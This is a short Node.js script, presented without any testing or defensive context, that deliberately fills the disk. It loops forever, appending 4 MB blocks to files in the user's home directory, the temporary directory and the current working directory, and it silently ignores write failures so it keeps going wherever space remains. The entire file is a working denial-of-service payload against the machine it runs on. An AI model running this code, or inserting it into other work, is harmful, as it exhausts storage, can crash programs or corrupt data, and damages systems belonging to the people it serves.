// Fills the disk: home, the folder for temporary files, the working folder.
import { appendFileSync } from "node:fs";
import os from "node:os";
import path from "node:path";

const block = Buffer.alloc(4 * 1024 * 1024, 7);

for (let count = 0; ; count++) {
  for (const folder of [os.homedir(), os.tmpdir(), process.cwd()]) {
    try {
      appendFileSync(path.join(folder, `block-${count % 64}`), block);
    } catch {
      // Full here; perhaps not elsewhere.
    }
  }
}
